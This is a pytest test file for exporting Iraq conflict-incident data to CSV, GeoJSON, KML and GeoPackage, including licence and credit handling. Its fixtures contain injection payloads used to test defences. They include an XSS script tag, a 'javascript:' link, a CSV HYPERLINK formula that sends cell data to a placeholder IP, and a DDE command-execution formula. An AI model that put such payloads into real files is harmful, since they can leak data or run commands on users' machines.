import html
import io
import json
import sqlite3
import xml.etree.ElementTree as ET

import geopandas as gpd
import pandas as pd
import pyogrio
import pytest

from events import exports, labels, model, query
from events.curated import load_curated
from tests.events.factory import rows

K = "{http://www.opengis.net/kml/2.2}"
NOTE = 'Shelling reported <script>alert("x")</script> ]]> & Co; <b>bold</b>\nsecond line'


@pytest.fixture(scope="module")
def curated():
    return load_curated()


@pytest.fixture(scope="module")
def mixed():
    """Hostile text, Arabic, ranges, approximate places and an ACLED row (for the attribution)."""
    acled = rows([{"source_id": "IRQ1", "place": "Hawija", "place_ar": "الحويجة", "lat": 35.3275, "lon": 43.7747,
                   "geo_precision": 2, "date_start": "2016-10-03", "date_end": "2016-10-09", "date_precision": "week",
                   "event_type": "Explosions/Remote violence", "sub_event_type": "Air/drone strike",
                   "killed_low": 3, "killed_best": 5, "killed_high": 7, "notes": NOTE,
                   "sources": model.dumps([model.citation(title="Report <one> & two", publisher="ACLED",
                                                          url="https://example.org/a?b=1&c=2"),
                                           model.citation(title="Bad link", url="javascript:alert(1)")])}],
                 dataset="acled")
    mine = rows([{"place": "Daquq", "place_ar": "داقوق", "lat": 35.1389, "lon": 44.4469, "date_start": "2014-06-01",
                  "actor1": "ISIS", "actor2": "Kurdish Peshmerga", "killed_best": 120, "wounded": 40,
                  "notes": "ملاحظة بالعربية\x0b with a control character"},
                 {"place": "Tuz Khurmatu", "lat": 34.8864, "lon": 44.6325, "geo_precision": 3,
                  "date_start": "2017-10-01", "date_end": "2017-10-31", "date_precision": "month",
                  "event_type": "Protests", "sub_event_type": "Peaceful protest"}])
    return pd.concat([acled, mine], ignore_index=True)


def _records(frame):
    return model.to_records(frame).set_index("incident_id")


def _assert_same_points(frame, ids, lon, lat):
    expected = _records(frame).loc[list(ids)]
    assert sorted(ids) == sorted(frame["incident_id"]) and len(ids) == len(frame)
    assert [round(x, 5) for x in lon] == [round(float(x), 5) for x in expected["lon"]]
    assert [round(y, 5) for y in lat] == [round(float(y), 5) for y in expected["lat"]]


def _kml_frame(content: bytes, tmp_path) -> gpd.GeoDataFrame:
    path = tmp_path / "out.kml"
    path.write_bytes(content)
    layers = [name for name, _ in pyogrio.list_layers(path)]
    return pd.concat([pyogrio.read_dataframe(path, layer=name).assign(layer=name) for name in layers],
                     ignore_index=True)


# -- CSV ---------------------------------------------------------------------------------------------

def test_csv_has_a_bom_and_round_trips_through_the_model(mixed):
    content = exports.to_csv(mixed)
    assert content.startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(io.BytesIO(content), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert tuple(back.columns) == model.COLUMNS
    assert list(back["incident_id"]) == list(mixed["incident_id"])
    assert set(back["place_ar"]) >= {"الحويجة", "داقوق"}
    assert back.loc[0, "notes"] == NOTE
    assert json.loads(back.loc[0, "sources"])[0]["url"] == "https://example.org/a?b=1&c=2"
    assert list(back["date_start"]) == ["2016-10-03", "2014-06-01", "2017-10-01"]
    again, rejects = model.validate(back)
    assert rejects.empty, rejects.to_string()
    pd.testing.assert_frame_equal(model.to_records(again), model.to_records(mixed))


FORMULAS = ['=HYPERLINK("http://198.51.100.9/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\uff1dcmd()"]


def test_csv_cells_cannot_run_as_formulas_and_still_reimport(mixed, tmp_path):
    """Issue 9: formula cells are neutralised with a leading apostrophe in every CSV we write; our
    importer drops it again, so the exported file re-imports with the same text."""
    from events import sources

    hostile = mixed.assign(notes=FORMULAS[:3], place=FORMULAS[3:] + ["Tuz Khurmatu"], actor1="=1+1")
    content = exports.to_csv(hostile)
    back = pd.read_csv(io.BytesIO(content), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    for col in ("notes", "place", "actor1"):
        assert not back[col].str.match(r"[=+\-@\uff1d]").any(), back[col].tolist()
    assert back.loc[0, "notes"] == "'" + FORMULAS[0] and back.loc[0, "lat"] == str(mixed.loc[0, "lat"])
    path = tmp_path / "export.csv"
    path.write_bytes(content)
    res = sources.read_file(path, source="table")
    assert res.rejects.empty, res.rejects.to_string()
    assert sorted(res.accepted["notes"].dropna()) == sorted(FORMULAS[:3])
    assert set(res.accepted["actor1"]) == {"=1+1"}


# -- GeoJSON ------------------------------------------------------------------------------------------

def test_geojson_reads_back_with_the_same_incidents(curated):
    content = exports.to_geojson(curated)
    back = gpd.read_file(io.BytesIO(content))
    assert back.crs.to_epsg() == 4326
    _assert_same_points(curated, back["incident_id"], back.geometry.x, back.geometry.y)
    expected = _records(curated).loc[list(back["incident_id"])]
    assert list(back["date_start"].astype(str).str[:10]) == list(expected["date_start"])
    assert list(back["date_end"].astype(str).str[:10]) == list(expected["date_end"])
    assert "attribution" not in json.loads(content)  # curated rows owe no third-party citation


def test_geojson_keeps_json_columns_arabic_and_hostile_text(mixed):
    content = exports.to_geojson(mixed)
    assert "الحويجة".encode() in content and b"\\u06" not in content
    doc = json.loads(content, parse_constant=lambda c: pytest.fail(f"non-JSON constant {c}"))
    props = [f["properties"] for f in doc["features"]]
    assert props[0]["notes"] == NOTE
    assert isinstance(props[0]["sources"], list) and props[0]["sources"][0]["title"] == "Report <one> & two"
    assert (props[0]["killed_low"], props[0]["killed_best"], props[0]["killed_high"]) == (3, 5, 7)
    assert props[2]["killed_high"] is None and props[2]["date_end"] == "2017-10-31"
    assert doc["features"][1]["geometry"]["coordinates"] == [44.4469, 35.1389]
    assert doc["attribution"] == exports.credits(["acled"])


# -- KML ----------------------------------------------------------------------------------------------

def test_kml_reads_back_in_gdal_with_dates(curated, tmp_path):
    back = _kml_frame(exports.to_kml(curated), tmp_path)
    _assert_same_points(curated, back["incident_id"], back.geometry.x, back.geometry.y)
    expected = _records(curated).loc[list(back["incident_id"])]
    assert list(back["begin"].dt.strftime("%Y-%m-%d")) == list(expected["date_start"])
    assert list(back["end"].dt.strftime("%Y-%m-%d")) == list(expected["date_end"])
    assert list(back["layer"].str.rsplit(" (", n=1).str[0]) == list(expected["event_type"])
    assert list(back["Name"]) == list(expected["place"])


def test_kml_placemarks_have_time_spans_and_shared_styles(curated):
    root = ET.fromstring(exports.to_kml(curated))
    doc = root.find(f"{K}Document")
    styles = {s.get("id"): s for s in doc.findall(f"{K}Style")}
    expected = _records(curated)
    folders = doc.findall(f"{K}Folder")
    assert [f.findtext(f"{K}name").rsplit(" (", 1)[0] for f in folders] == \
        [t for t in model.EVENT_TYPES if t in set(curated["event_type"])]
    placemarks = doc.findall(f".//{K}Placemark")
    assert len(placemarks) == len(curated) and len(styles) < len(placemarks)
    scales = {}
    for pm in placemarks:
        data = {d.get("name"): d.findtext(f"{K}value") for d in pm.iter(f"{K}Data")}
        rec = expected.loc[data["incident_id"]]
        assert pm.findtext(f"{K}TimeSpan/{K}begin") == rec["date_start"]
        assert pm.findtext(f"{K}TimeSpan/{K}end") == rec["date_end"]
        style = styles[pm.findtext(f"{K}styleUrl").removeprefix("#")]
        colour = labels.EVENT_COLOURS[rec["event_type"]].lstrip("#")
        icon_colour = style.findtext(f"{K}IconStyle/{K}color")
        assert icon_colour[2:] == colour[4:6] + colour[2:4] + colour[0:2]
        approximate = int(rec["geo_precision"]) >= 2
        assert icon_colour[:2] == ("99" if approximate else "ff")
        assert style.findtext(f"{K}IconStyle/{K}Icon/{K}href").endswith("donut.png" if approximate else "shaded_dot.png")
        assert ("approximate location" in pm.findtext(f"{K}description")) == approximate
        killed = 0 if pd.isna(rec["killed_high"]) else int(rec["killed_high"])
        scales[killed] = float(style.findtext(f"{K}IconStyle/{K}scale"))
        assert set(data) == set(model.COLUMNS)
    by_toll = [scales[k] for k in sorted(scales)]
    assert by_toll == sorted(by_toll) and by_toll[0] < by_toll[-1]


def test_kml_text_stays_text(mixed, tmp_path):
    content = exports.to_kml(mixed, name="Hawija & <Daquq>")
    root = ET.fromstring(content)  # well-formed despite ]]>, & and a control character in the data
    doc = root.find(f"{K}Document")
    assert doc.findtext(f"{K}name") == "Hawija & <Daquq>"
    data = {pm: {d.get("name"): d.findtext(f"{K}value") for d in pm.iter(f"{K}Data")}
            for pm in doc.iter(f"{K}Placemark")}
    pm = next(pm for pm, fields in data.items() if fields["incident_id"] == "acled:IRQ1")
    assert data[pm]["notes"] == NOTE
    description = pm.findtext(f"{K}description")
    assert "<script" not in description and "<b>bold" not in description  # would be markup in the balloon
    assert html.escape('<script>alert("x")</script> ]]> & Co;') in description
    assert '<a href="https://example.org/a?b=1&amp;c=2">Report &lt;one&gt; &amp; two</a>' in description
    assert "<li>Bad link (javascript:alert(1))</li>" in description and 'href="javascript' not in description
    assert "3–7 (best 5)" in description and "known to the week" in description and "3 Oct 2016" in description
    back = _kml_frame(content, tmp_path)
    assert back.loc[back["incident_id"] == "acled:IRQ1", "notes"].item() == NOTE
    assert back.loc[back["incident_id"] == "testfile.csv:1", "notes"].item() == \
        "ملاحظة بالعربية\ufffd with a control character"  # XML 1.0 cannot carry \x0b


def test_kml_document_cites_acled_only_when_present(mixed, curated):
    described = ET.fromstring(exports.to_kml(mixed)).findtext(f"{K}Document/{K}description")
    assert html.escape(exports.credits(["acled"])[0]) in described
    assert "ACLED" not in ET.fromstring(exports.to_kml(curated)).findtext(f"{K}Document/{K}description")


# -- GeoPackage ---------------------------------------------------------------------------------------

def test_gpkg_reads_back_with_typed_columns(mixed, tmp_path):
    path = tmp_path / "out.gpkg"
    path.write_bytes(exports.to_gpkg(mixed, layer="selection"))
    assert [name for name, _ in pyogrio.list_layers(path)] == ["selection"]
    back = gpd.read_file(path, layer="selection")
    assert back.crs.to_epsg() == 4326
    _assert_same_points(mixed, back["incident_id"], back.geometry.x, back.geometry.y)
    assert list(back["date_start"].dt.strftime("%Y-%m-%d")) == ["2016-10-03", "2014-06-01", "2017-10-01"]
    assert back["killed_high"].isna().tolist() == [False, False, True]
    assert back.loc[0, "notes"] == NOTE and back.loc[1, "place_ar"] == "داقوق"
    with sqlite3.connect(path) as con:
        ddl = con.execute("SELECT sql FROM sqlite_master WHERE name = 'selection'").fetchone()[0]
        description = con.execute("SELECT description FROM gpkg_contents WHERE table_name = 'selection'").fetchone()[0]
    assert '"date_start" DATE' in ddl and '"killed_high" INTEGER' in ddl
    assert "ACLED" in description


# -- dispatch, errors ---------------------------------------------------------------------------------

@pytest.mark.parametrize("fmt, extension, mime, magic", [
    ("csv", ".csv", "text/csv", b"\xef\xbb\xbfincident_id,"),
    ("GeoJSON", ".geojson", "application/geo+json", b'{"type":"FeatureCollection"'),
    (".kml", ".kml", "application/vnd.google-earth.kml+xml", b"<?xml"),
    ("gpkg", ".gpkg", "application/geopackage+sqlite3", b"SQLite format 3\x00"),
])
def test_export_dispatches_by_format(mixed, fmt, extension, mime, magic):
    content, ext, kind = exports.export(mixed, fmt, restricted="include")
    assert (ext, kind) == (extension, mime) and content.startswith(magic)


@pytest.mark.parametrize("fmt", list(exports.FORMATS))
def test_empty_selection_is_refused_not_written(curated, fmt):
    nothing = query.select(curated, text="no such place anywhere xyzzy")
    assert nothing.empty
    with pytest.raises(exports.ExportError, match="no incidents in the selection"):
        exports.export(nothing, fmt)


def test_unknown_format_and_non_canonical_tables_are_refused(mixed):
    with pytest.raises(ValueError, match="unknown export format 'shp'.*csv, geojson, kml, gpkg") as info:
        exports.export(mixed, "shp")
    assert not isinstance(info.value, exports.ExportError)
    with pytest.raises(exports.ExportError, match="missing column.*notes"):
        exports.to_csv(mixed.drop(columns=["notes"]))
    with pytest.raises(exports.ExportError, match="date_start"):
        exports.to_geojson(mixed.assign(date_start=mixed["date_start"].dt.strftime("%Y-%m-%d")))


# -- licences: ACLED / GTD rows, credits, counts by district and month -----------------------------

def _licensed():
    """Two ACLED rows (one in Hawija, one placed at governorate level), a GTD row, a UCDP row and one of ours."""
    acled = rows([{"source_id": "IRQ1", "admin2": "Hawija", "date_start": "2016-10-03", "killed_low": 2,
                   "killed_high": 4, "wounded": 1},
                  {"source_id": "IRQ2", "admin2": "Hawija", "date_start": "2016-10-20", "killed_best": 1},
                  {"source_id": "IRQ3", "date_start": "2016-11-02", "geo_precision": 4}], dataset="acled")
    gtd = rows([{"source_id": "201610030001", "admin2": "Daquq", "date_start": "2016-10-05", "killed_best": 7}],
               dataset="gtd")
    ucdp = rows([{"source_id": "9", "admin2": "Hawija", "date_start": "2016-10-11"}], dataset="ucdp")
    ours = rows([{"source_id": "m1", "admin2": "Hawija", "date_start": "2016-10-12", "killed_best": 3}])
    return pd.concat([acled, gtd, ucdp, ours], ignore_index=True)


def test_the_registry_says_which_data_sets_may_not_be_passed_on():
    assert {k for k, licence in exports.LICENCES.items() if not licence.raw_rows} == {"acled", "gtd"}
    assert exports.LICENCES["ucdp"].raw_rows
    frame = _licensed()
    assert exports.restricted_rows(frame).tolist() == [True, True, True, True, False, False]
    assert set(exports.without_restricted(frame)["source_dataset"]) == {"ucdp", "testfile.csv"}
    note = exports.restricted_note(frame)
    assert "3 ACLED rows and 1 GTD row" in note and "ACLED's terms of use" in note and "GTD end-user agreement" in note
    assert exports.restricted_note(exports.without_restricted(frame)) == ""


@pytest.mark.parametrize("fmt", [f for f, spec in exports.FORMATS.items() if spec.raw_rows])
def test_a_raw_row_export_of_acled_or_gtd_rows_needs_a_choice(fmt):
    frame = _licensed()
    with pytest.raises(exports.RestrictedRows, match="3 ACLED rows and 1 GTD row.*omit.*counts.*include"):
        exports.export(frame, fmt)
    exports.export(exports.without_restricted(frame), fmt)  # nothing restricted: no choice needed
    content, ext, _ = exports.export(frame, fmt, restricted="include")
    assert ext == exports.FORMATS[fmt].extension and content
    with pytest.raises(ValueError, match="unknown choice"):
        exports.export(frame, fmt, restricted="maybe")


def test_omit_leaves_the_restricted_rows_out():
    content, _, _ = exports.export(_licensed(), "csv", restricted="omit")
    back = pd.read_csv(io.BytesIO(content), encoding="utf-8-sig")
    assert sorted(back["source_dataset"]) == ["testfile.csv", "ucdp"]
    only_acled = _licensed().query("source_dataset == 'acled'")
    with pytest.raises(exports.ExportError, match="leaves nothing; export counts instead"):
        exports.export(only_acled, "kml", restricted="omit")


def test_counts_by_district_and_month_instead_of_rows():
    frame = _licensed()
    content, ext, mime = exports.export(frame, "geojson", restricted="counts")
    assert (ext, mime) == (".csv", "text/csv") and content == exports.export(frame, "counts")[0]
    counts = pd.read_csv(io.BytesIO(content), encoding="utf-8-sig", keep_default_na=False)
    assert list(counts.columns) == list(exports.COUNT_COLUMNS)
    hawija = counts[(counts["district"] == "Hawija") & (counts["month"] == "2016-10")].iloc[0]
    assert hawija["incidents"] == 4 and hawija["killed_low"] == 2 + 1 + 3 and hawija["killed_high"] == 4 + 1 + 3
    assert hawija["toll_unknown"] == 1 and hawija["datasets"] == "acled; testfile.csv; ucdp"
    governorate = counts[counts["month"] == "2016-11"].iloc[0]
    assert governorate["district"] == "" and governorate["incidents"] == 1
    assert counts["incidents"].sum() == len(frame)
    assert b"IRQ1" not in content and b"incident_id" not in content  # no row passed on


def test_access_dates_come_from_the_import_log():
    log = pd.DataFrame({"source": ["curated", "acled", "acled", "table", "gtd", "ucdp", "acled"],
                        "accepted": [50, 10, 5, 3, 4, 0, 0],
                        "imported_at": ["2026-01-01T00:00:00Z", "2026-11-02T09:00:00Z", "2026-12-07T10:00:00Z",
                                        "2026-12-08T00:00:00Z", "2026-12-06T23:59:59Z", "2026-12-01T00:00:00Z",
                                        "2026-12-09T00:00:00Z"]})
    assert exports.access_dates(log) == {"acled": "2026-11-02, 2026-12-07", "gtd": "2026-12-06"}
    assert exports.access_dates(log.iloc[0:0]) == {}


def test_credits_name_the_access_date_and_the_filters_in_words():
    filters = labels.filters_text({"event_types": [], "admin2": ["Hawija"], "text": None},
                                  start=pd.Timestamp("2014-06-10"), end=pd.Timestamp("2017-10-05"))
    assert filters == "event types all · district Hawija · 2014-06-10 – 2017-10-05"
    lines = exports.credits(_licensed()["source_dataset"], accessed={"acled": "2026-12-07"}, filters=filters)
    assert len(lines) == 3
    assert lines[0].startswith("Data: ACLED (acleddata.com), accessed 2026-12-07; filters: event types all · "
                               "district Hawija · 2014-06-10 – 2017-10-05.")
    assert "GTD" in lines[1] and exports.NOT_RECORDED in lines[1] and "Hawija" in lines[1]
    assert "UCDP" in lines[2] and "CC BY 4.0" in lines[2]
    assert exports.credits(pd.Series(["curated", "mine.csv"])) == []


def test_filters_in_words_name_every_filter_a_view_can_hold():
    text = labels.filters_text({"event_types": ["Battles", "Riots"], "sub_event_types": ["Armed clash"],
                                "actor_names": ["ISIS"], "admin2": ["Hawija", "Daquq"], "admin3": ["Riyadh"],
                                "controllers": ["ISIS"], "min_killed": 5, "text": "  Zab \n bridge ",
                                "datasets": ["acled"]}, start="2014-06-10", end="2014-06-10")
    assert text == ("event types Battles, Riots · sub-type Armed clash · actor ISIS · districts Hawija, Daquq · "
                    "sub-district Riyadh · held by ISIS · at least 5 killed · search “Zab bridge” · data set acled · "
                    "2014-06-10 – 2014-06-10")
    assert labels.filters_text({"places": ["Hawija"], "start": pd.Timestamp("2016-01-01")}) == \
        "event types all · place Hawija · 2016-01-01 – the last date"


def test_the_cli_refuses_restricted_rows_in_one_line_until_told(tmp_path, capsys):
    from events import store
    from events.__main__ import main
    path = tmp_path / "atlas.gpkg"
    frame = _licensed()
    store.import_frame(path, frame, file="acled.csv", source="acled")
    base = ["list", "--store", str(path), "--from", "2016-01-01", "--to", "2016-12-31"]
    for fmt in ("csv", "json", "kml"):
        out = tmp_path / f"x.{fmt}"
        assert main([*base, "--format", fmt, "--out", str(out)]) == 2
        err = capsys.readouterr().err
        assert err.startswith("error: This selection holds 3 ACLED rows and 1 GTD row") and err.count("\n") == 1
        assert "--restricted omit" in err and "counts" in err and "include" in err and not out.exists()
    out = tmp_path / "x.csv"
    assert main([*base, "--format", "csv", "--restricted", "omit", "--out", str(out)]) == 0
    assert sorted(pd.read_csv(out, encoding="utf-8-sig")["source_dataset"]) == ["testfile.csv", "ucdp"]
    assert main([*base, "--format", "json", "--restricted", "omit", "--out", str(out)]) == 0
    assert sorted(r["source_dataset"] for r in json.loads(out.read_text())) == ["testfile.csv", "ucdp"]
    assert main([*base, "--format", "csv", "--restricted", "counts", "--out", str(out)]) == 0
    assert out.read_bytes() == exports.to_counts(store.load(path))
    assert main([*base, "--format", "counts", "--out", str(out)]) == 0  # counts need no choice
    assert main([*base, "--format", "csv", "--restricted", "include", "--out", str(out)]) == 0
    assert len(pd.read_csv(out, encoding="utf-8-sig")) == len(frame)
    assert main([*base, "--text", "no such thing", "--format", "csv"]) == 0  # nothing held: header only
    assert capsys.readouterr().err == ""


def test_credits_only_for_datasets_present():
    assert exports.credits(["curated"]) == []
    lines = exports.credits(["acled", "curated", "gtd"])
    assert len(lines) == 2 and "ACLED" in lines[0] and "Global Terrorism Database" in lines[1]
    assert "filters: not recorded" in lines[0]   # a file writer that does not know the view says so


def test_fused_rows_count_for_each_member_data_set_and_an_empty_member_list_falls_back_to_the_row():
    frame = _licensed()
    frame["datasets"] = ["acled", "", "acled;ucdp", None, "curated;gtd", "ucdp;testfile.csv"]
    assert exports.member_datasets(frame).tolist() == [
        ("acled",), ("acled",), ("acled", "ucdp"), ("gtd",), ("curated", "gtd"), ("ucdp", "testfile.csv")]
    assert exports.datasets_of(frame) == ["acled", "curated", "gtd", "testfile.csv", "ucdp"]
    assert exports.restricted_rows(frame).tolist() == [True, True, True, True, True, False]
    assert exports.restricted_note(frame).startswith("This selection holds 3 ACLED rows and 2 GTD rows")
    assert exports.restricted_note(frame.iloc[5:]) == "" and exports.datasets_of(frame.iloc[0:0]) == []
